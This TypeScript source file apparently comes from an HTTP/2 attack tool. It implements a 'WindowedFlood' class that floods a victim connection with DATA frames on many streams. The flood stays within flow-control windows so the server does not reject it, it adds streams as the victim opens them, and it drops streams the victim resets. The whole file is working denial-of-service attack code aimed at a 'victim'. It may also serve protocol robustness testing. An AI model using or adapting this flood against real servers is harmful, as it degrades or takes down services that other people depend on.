/**
 * A flood of DATA that keeps to the windows: what breaks flow control is thrown out at once, and shows nothing of what comes after.
 */
import { FrameType } from "../frames/frame.js";
import type { AttackConnection } from "./attack-connection.js";
import { SendCredit } from "./send-credit.js";

/** What is sent on each stream, in each round. */
export interface Round {
  readonly make: (streamId: number) => Buffer;
  /** What it takes of the windows. */
  readonly bytes: number;
  readonly attempts: number;
}

export class WindowedFlood {
  readonly #connection: AttackConnection;
  readonly #round: Round;
  readonly #credit = new SendCredit();
  /** The streams, and the octets of a round. */
  readonly #streams = new Map<number, Buffer>();
  #isWaiting = true;

  /** Listens to the victim from now on; `onRequest` is told of streams that the victim opens. */
  constructor(connection: AttackConnection, round: Round, onRequest: (streamId: number) => void = () => {}) {
    this.#connection = connection;
    this.#round = round;
    connection.onFrame = (type, _flags, streamId, payload) => {
      if (type === FrameType.HEADERS) onRequest(streamId);
      if (type === FrameType.RST_STREAM) this.#streams.delete(streamId);
      if (this.#credit.note(type, streamId, payload)) this.#wake();
    };
  }

  /** Floods these streams too. */
  add(...streamIds: readonly number[]): void {
    for (const id of streamIds) this.#streams.set(id, this.#round.make(id));
    this.#wake();
  }

  #wake(): void {
    if (!this.#isWaiting) return;
    this.#isWaiting = false;
    this.#writeRound();
  }

  #writeRound(): void {
    const { bytes, attempts } = this.#round;
    const parts: Buffer[] = [];
    for (const [id, octets] of this.#streams) if (this.#credit.take(id, bytes)) parts.push(octets);
    if (parts.length === 0) {
      this.#isWaiting = true;
      return;
    }
    this.#connection.write(Buffer.concat(parts), parts.length * attempts, () => setImmediate(() => this.#writeRound()));
  }
}
